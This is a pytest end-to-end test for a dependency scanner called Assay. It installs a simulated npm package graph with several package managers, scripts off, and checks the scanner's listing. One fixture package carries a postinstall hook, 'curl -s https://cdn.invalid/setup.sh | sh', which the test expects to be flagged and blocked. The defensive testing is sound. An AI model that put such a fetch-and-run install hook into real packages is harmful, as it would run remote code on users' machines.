"""Real package managers install from the simulated registry; what they installed is what Assay lists."""

from __future__ import annotations

import json
import os
import subprocess
from collections.abc import Iterator
from pathlib import Path

import pytest

from scripts.install_clients import CLIENTS, Client
from tests.end_to_end.run import Machine
from tests.registry_simulator import RegistrySimulator

FETCHES = {"scripts": {"postinstall": "curl -s https://cdn.invalid/setup.sh | sh"}}
MANIFEST: dict[str, object] = {
    "name": "shop",
    "version": "1.0.0",
    "private": True,
    "workspaces": ["packages/*"],
    "dependencies": {
        "@acme-test/scoped-thing": "~0.4.0",
        "bad-thing": "^1.0.0",
        "bundling-thing": "1.0.0",
        "guest-thing": "^1.0.0",
        "host-thing": "^3.0.0",
        "other-name": "npm:deep-thing@2.0.0",
        "plain-thing": "^1.0.0",
    },
    "devDependencies": {"dev-thing": "*"},
    "optionalDependencies": {"optional-thing": "^1.0.0"},
}
MEMBER = {"name": "@acme-test/member", "version": "0.2.0", "dependencies": {"deep-thing": "1.0.0"}}
#: It comes inside another package's tarball.
BUNDLED = {"inner-thing@5.0.0"}
#: Their lockfiles do not say what is bundled: it is read as part of the tarball that holds it.
UNLISTED_BUNDLES = ("pnpm", "deno")
#: Every file that the clients of all kinds write.
LOCKFILES = ("package-lock.json", "yarn.lock", "pnpm-lock.yaml", "bun.lock", "deno.lock")


def publish_graph(registry: RegistrySimulator) -> None:
    """A small graph with everything that makes a difference to clients."""
    for version in ("1.0.0", "1.4.0", "2.0.0"):
        registry.publish("deep-thing", version)
    registry.publish("plain-thing", "1.2.3", manifest={"dependencies": {"deep-thing": "^1.0.0"}})
    registry.publish("plain-thing", "2.0.0-rc.1", tag="next")
    registry.publish("dev-thing", "0.1.0", manifest={"dependencies": {"deep-thing": "^2.0.0"}})
    registry.publish("optional-thing", "1.1.0")
    registry.publish("host-thing", "3.0.0")
    registry.publish("guest-thing", "1.0.0", manifest={"peerDependencies": {"host-thing": "^3.0.0"}})
    registry.publish("@acme-test/scoped-thing", "0.4.2", manifest={"dependencies": {"@acme-test/leaf": "^1.0.0"}})
    registry.publish("@acme-test/leaf", "1.0.0")
    inner = {"node_modules/inner-thing/package.json": '{"name": "inner-thing", "version": "5.0.0"}'}
    bundle = {"dependencies": {"inner-thing": "^5.0.0"}, "bundleDependencies": ["inner-thing"]}
    registry.publish("inner-thing", "5.0.0")
    registry.publish("bundling-thing", "1.0.0", files={"index.js": "module.exports = 1;\n", **inner}, manifest=bundle)
    registry.publish("bad-thing", "1.0.0", manifest=FETCHES)


@pytest.mark.clients
@pytest.mark.parametrize("client", CLIENTS.values(), ids=CLIENTS)
def test_what_a_client_installs_is_what_is_listed(
    client: Client, registry: RegistrySimulator, machine: Machine, project: Path
) -> None:
    publish_graph(registry)
    (project / "package.json").write_text(json.dumps(MANIFEST, indent=2))
    (project / "packages/member").mkdir(parents=True)
    (project / "packages/member/package.json").write_text(json.dumps(MEMBER, indent=2))
    install(client, registry, machine, project)
    on_disk = installed(project)
    assert {"plain-thing@1.2.3", "deep-thing@2.0.0", "deep-thing@1.0.0", "inner-thing@5.0.0"} <= on_disk

    registry.requests.clear()
    done = machine.scan(project)
    assert (done.code, done.stderr) == (1, "")
    listed = {ref for ref, each in done.by_ref.items() if each["origin"] != "workspace"}
    assert listed == on_disk - (BUNDLED if client.name.startswith(UNLISTED_BUNDLES) else set())
    assert [each["dependencies"] > 0 for each in done.report["inputs"]] == [True]
    assert done.input_gaps == done.report["gaps"] == []
    assert not [gap for each in done.by_ref.values() for gap in each["gaps"]]

    assert "install-script-fetches" in done.rules("bad-thing@1.0.0")
    assert [ref for ref, each in done.by_ref.items() if each["decision"]["action"] == "block"] == ["bad-thing@1.0.0"]
    (usage,) = done.by_ref["bad-thing@1.0.0"]["usages"]
    assert Path(usage["location"]["file"]).name in LOCKFILES
    line = Path(usage["location"]["file"]).read_text(encoding="utf-8").splitlines()[usage["location"]["line"] - 1]
    assert "bad-thing" in line
    assert ["shop", "bad-thing"] in [path[-2:] for path in done.by_ref["bad-thing@1.0.0"]["paths"]]


def install(client: Client, registry: RegistrySimulator, machine: Machine, project: Path) -> None:
    """Have the client install the project, with scripts off, from the simulated registry and from nowhere else."""
    program = client.home / "node_modules" / client.program
    if not program.exists():
        pytest.fail(f"{client.name} is not installed; install it with: python -m scripts.install_clients")
    kind = client.name.partition("-")[0]
    (project / ".npmrc").write_text(f"registry={registry.url}/\n")
    for name, text in files_for(kind, registry.url).items():
        (project / name).write_text(text)
    done = subprocess.run(
        [*client.command(), *WORDS[kind]],
        cwd=project,
        env=environment(client, machine),
        stdin=subprocess.DEVNULL,
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert done.returncode == 0, f"{done.stdout}\n{done.stderr}"


#: What makes each kind of client install without running a script.
WORDS = {
    "npm": ["install", "--ignore-scripts", "--no-audit", "--no-fund"],
    "yarn": ["install"],
    "pnpm": ["install", "--ignore-scripts", "--no-frozen-lockfile"],
    "bun": ["install", "--ignore-scripts"],
    "deno": ["install"],
}


def files_for(kind: str, registry: str) -> dict[str, str]:
    """The client's own settings in the project."""
    if kind == "pnpm":
        return {"pnpm-workspace.yaml": "packages:\n  - packages/*\n"}
    if kind == "deno":
        return {"deno.json": '{"nodeModulesDir": "auto"}\n'}
    if kind == "yarn":
        berry = f"npmRegistryServer: {registry}\nunsafeHttpWhitelist: [127.0.0.1]\nnodeLinker: node-modules\n"
        return {
            ".yarnrc": f'registry "{registry}/"\nignore-scripts true\n',
            ".yarnrc.yml": f"{berry}enableScripts: false\nenableTelemetry: false\nenableImmutableInstalls: false\n",
        }
    return {}


def environment(client: Client, machine: Machine) -> dict[str, str]:
    """A home and caches of its own; whatever is not on this machine goes to a proxy that is not there."""
    nowhere = "http://127.0.0.1:9"
    own = {
        **{name: str(machine.home / name.lower()) for name in CACHES},
        "CI": "1",
        "DENO_NO_UPDATE_CHECK": "1",
        "DENO_NO_PROMPT": "1",
        "npm_config_update_notifier": "false",
        "npm_config_manage_package_manager_versions": "false",
        "HTTP_PROXY": nowhere,
        "HTTPS_PROXY": nowhere,
        "http_proxy": nowhere,
        "https_proxy": nowhere,
        "NO_PROXY": "127.0.0.1",
        "no_proxy": "127.0.0.1",
    }
    if client.name == "yarn-4":
        own |= {"YARN_HTTP_PROXY": "", "YARN_HTTPS_PROXY": ""}
    return machine.environment(own)


CACHES = (
    "BUN_INSTALL_CACHE_DIR",
    "DENO_DIR",
    "PNPM_HOME",
    "XDG_CACHE_HOME",
    "XDG_CONFIG_HOME",
    "XDG_DATA_HOME",
    "XDG_STATE_HOME",
    "YARN_CACHE_FOLDER",
    "YARN_GLOBAL_FOLDER",
    "npm_config_cache",
    "npm_config_store_dir",
)


def installed(project: Path) -> set[str]:
    """Name and version of every package that lies in a node_modules folder of the project, links left out."""
    found = set()
    for folder in _package_folders(project):
        document = json.loads((folder / "package.json").read_text(encoding="utf-8"))
        found.add(f"{document['name']}@{document['version']}")
    return found


def _package_folders(project: Path) -> Iterator[Path]:
    for path, folders, files in os.walk(project):  # links to folders are not followed
        folder = Path(path)
        shelf = folder.parent.parent if folder.parent.name.startswith("@") else folder.parent
        if shelf.name == "node_modules" and "package.json" in files and not folder.is_symlink():
            yield folder
        folders.sort()
